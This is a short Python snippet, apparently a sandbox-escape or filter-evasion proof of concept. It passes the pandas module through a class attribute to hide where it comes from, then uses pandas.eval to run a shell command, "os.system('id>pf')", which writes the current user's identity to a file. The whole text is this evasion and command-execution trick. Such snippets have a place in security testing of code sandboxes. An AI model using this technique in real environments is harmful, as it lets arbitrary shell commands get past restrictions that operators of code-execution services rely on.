def my_K(x):

    class C:
        v = x
    return C.v
import pandas as pd, os
my_K(pd).eval("os.system('id>pf')")
